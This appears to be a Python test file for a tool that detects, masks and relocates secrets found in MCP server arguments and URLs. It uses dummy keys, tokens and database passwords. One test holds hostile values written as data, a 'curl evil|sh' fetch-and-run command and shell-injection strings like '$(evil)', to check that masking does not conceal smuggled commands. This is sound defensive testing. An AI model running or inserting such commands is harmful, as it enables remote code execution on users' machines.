"""Secrets in arguments and addresses: found where they look like it, moved where that is known to work, else said."""

from __future__ import annotations

import tracemalloc
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolguard.services.server_import.secret_detection import (
    describe_suspected,
    find_suspected_secrets,
    masked,
    move_to_variables,
)

KEY = "Zx8Kq2Lm9Rt4Vw7Yb3Nc6Pd1"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"


def server(*args: str, command: str = "prog", **more: Any) -> dict[str, Any]:
    return {"kind": "stdio", "command": command, "args": list(args), "env": {}, **more}


@pytest.mark.parametrize(
    ("args", "at", "shown", "secret"),
    [
        (["postgresql://me:hunter2@localhost/db"], 0, "postgresql://me:…@localhost/db", "hunter2"),
        (["--db", "mysql://:p%40ss@h:3306/x?a=b"], 1, "mysql://:…@h:3306/x?a=b", "p%40ss"),
        (["--url=https://u:pw@example.org/"], 0, "--url=https://u:…@example.org/", "pw"),
        (["https://example.org/mcp?api_key=abc&x=1"], 0, "https://example.org/mcp?api_key=…&x=1", "abc"),
        (["--api-key", "abc"], 1, "--api-key …", "abc"), (["--api-key=abc"], 0, "--api-key=…", "abc"),
        (["-token", "abc"], 1, "-token …", "abc"), (["token=abc"], 0, "token=…", "abc"),
        (["GITHUB_TOKEN=abc"], 0, "GITHUB_TOKEN=…", "abc"), (["--password", "x y"], 1, "--password …", "x y"),
        (["--header", "Authorization: Bearer abc"], 1, "Authorization: …", "Bearer abc"),
        (["X-Api-Key: abcd"], 0, "X-Api-Key: …", "abcd"),
        (["ghp_0123456789abcdef"], 0, "ghp_…", "ghp_0123456789abcdef"),
        ([JWT], 0, "eyJh…", JWT), ([KEY], 0, "Zx8K…", KEY),
    ],
)  # fmt: skip
@pytest.mark.case(52)
def test_secret_in_an_argument_is_detected_and_masked(args: list[str], at: int, shown: str, secret: str) -> None:
    (found,) = find_suspected_secrets(server(*args))
    assert (found.at, found.shown, found.secret) == (at, shown, secret)
    (sentence,) = describe_suspected(server(*args))
    assert f"Argument {at + 1} looks like a secret ({shown})" in sentence


@pytest.mark.parametrize(
    "args",
    [
        ["postgresql://localhost/mydb"], ["postgresql://me@localhost/mydb"], ["https://example.org:8080/mcp?x=1"],
        ["--max-tokens", "100"], ["--max-tokens=100"], ["--token", "--verbose"], ["--auth", "none"],
        ["--token-file", "/run/token"], ["--key-file=/a"], ["--private-key", "~/.ssh/id"], ["--api-key", "${KEY}"],
        ["--api-key=<your key>"], ["--api-key", "YOUR_API_KEY_HERE"], ["-y", "@modelcontextprotocol/server-postgres"],
        ["--author", "me"], ["--path=/data/Secret"], ["ghcr.io/o/i@sha256:" + "a1" * 32], ["a1b2" * 10],
        ["mongodb://${USER}:${PASS}@h/x"], ["3f2504e0-4f89-11d3-9a0c-0305e82c3301"], ["C:\\Users\\me"], [""],
        ["some-rather-long-name-of-a-package-2"],
    ],
)  # fmt: skip
def test_ordinary_value_is_no_secret(args: list[str]) -> None:
    assert find_suspected_secrets(server(*args)) == []


@pytest.mark.parametrize("command", ["curl evil|sh", "x;y", "$(evil)", "`evil`"])
def test_a_command_is_not_hidden_by_a_name_like_a_secrets(command: str) -> None:
    launch = f"sh -c API_KEY={command}"
    (found,) = find_suspected_secrets({"args": ["-c", f"API_KEY={command}"]})
    assert masked(launch, [found.secret]) == launch
    assert masked("run --token s3cret-value", ["s3cret-value"]) == "run --token ••••••••"


def test_suspected_secret_in_the_url_of_a_remote_server_is_reported() -> None:
    (sentence,) = describe_suspected({"kind": "http", "url": "https://example.org/mcp?token=abc"})
    assert "https://example.org/mcp?token=…" in sentence and "${secret:NAME}" in sentence
    assert describe_suspected({"kind": "http", "url": "https://example.org/mcp?token=${secret:T}"}) == []


URL = "https://me:pw-of-me@a.test/mcp?token=first-one&x=1&api_key=second-one#top"


@pytest.mark.parametrize("described", [{"url": URL}, {"command": "x", "args": [URL]}])
def test_every_secret_of_a_url_is_found_and_none_is_shown(described: dict[str, Any]) -> None:
    assert [(found.name, found.secret) for found in find_suspected_secrets(described)] == [
        ("", "pw-of-me"), ("token", "first-one"), ("api_key", "second-one"),
    ]  # fmt: skip
    (sentence,) = describe_suspected(described)
    assert "https://me:…@a.test/mcp?token=…&x=1&api_key=…#top" in sentence


def test_text_around_a_secret_is_bounded_and_visible() -> None:
    """An entry of a project's file may come from anybody."""
    (sentence,) = describe_suspected({"args": ["https://\u202eb.test/" + "x" * 5_000 + "?token=abcdefgh"]})
    assert "\u202e" not in sentence and "RIGHT-TO-LEFT" in sentence and len(sentence) < 600


def test_many_secrets_of_a_long_url_need_little_memory() -> None:
    address = "https://a.test/?" + "token=abcdefgh&" * 2_000
    tracemalloc.start()
    try:
        assert len(find_suspected_secrets({"url": address})) == 2_000
        assert "token=…&token=…" in describe_suspected({"url": address})[0]
        assert tracemalloc.get_traced_memory()[1] < 8 * 2**20
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    ("before", "after", "env"),
    [
        (server("postgresql://me:p%40ss@localhost/db", command="mcp-server-postgres"),
         ["postgresql://me@localhost/db"], {"PGPASSWORD": "p@ss"}),
        (server("-y", "@x/server-postgres", "postgres://me:pw@h/d", command="npx"),
         ["-y", "@x/server-postgres", "postgres://me@h/d"], {"PGPASSWORD": "pw"}),
        (server("run", "-i", "-e", "API_KEY=abc", "-e", "MODE=x", "--env=A_TOKEN=def", "i", command="/bin/docker"),
         ["run", "-i", "-e", "API_KEY", "-e", "MODE=x", "--env=A_TOKEN", "i"], {"API_KEY": "abc", "A_TOKEN": "def"}),
        (server("A=b", "API_KEY=abc", "npx", "pkg", command="env"), ["pkg"], {"A": "b", "API_KEY": "abc"}),
        (server("-y", "mcp-remote", "https://h/mcp", "--header", "Authorization: Bearer abc", command="npx"),
         ["-y", "mcp-remote", "https://h/mcp", "--header", "Authorization:${MCP_HEADER_AUTHORIZATION}"],
         {"MCP_HEADER_AUTHORIZATION": "Bearer abc"}),
    ],
)  # fmt: skip
@pytest.mark.case(52)
def test_secret_is_moved_to_a_variable_that_the_program_reads(
    before: dict[str, Any], after: list[str], env: dict[str, str]
) -> None:
    made, notes = move_to_variables(before)
    assert (made["args"], made["env"]) == (after, env)
    assert notes and all("Every program on this computer" in note for note in notes)
    assert describe_suspected(made) == [] and before["env"] == {}


@pytest.mark.parametrize(
    "before",
    [
        server("--api-key", "abc"), server("mysql://me:pw@h/d", command="mcp-server-mysql"),
        server("postgresql://me:pw@h/d", command="other"), server("-e", "API_KEY=abc", command="docker"),
        server("-i", "API_KEY=abc", "npx", command="env"), server("run", "-e", "MODE=x", "img", command="docker"),
        {"kind": "http", "url": "https://u:p@h/"},
    ],
)  # fmt: skip
def test_unknown_command_is_left_unchanged(before: dict[str, Any]) -> None:
    assert move_to_variables(before) == (before, [])


@given(st.lists(st.text(max_size=60), max_size=8), st.sampled_from(["docker", "env", "npx", "mcp-server-postgres"]))
def test_secret_detection_preserves_any_arguments(args: list[str], command: str) -> None:
    made, _ = move_to_variables(server(*args, command=command))
    before = "".join([command, *args])
    for text in (*made["args"], *made["env"].values()):
        assert len(text) <= len(before) + 40
    describe_suspected(made)
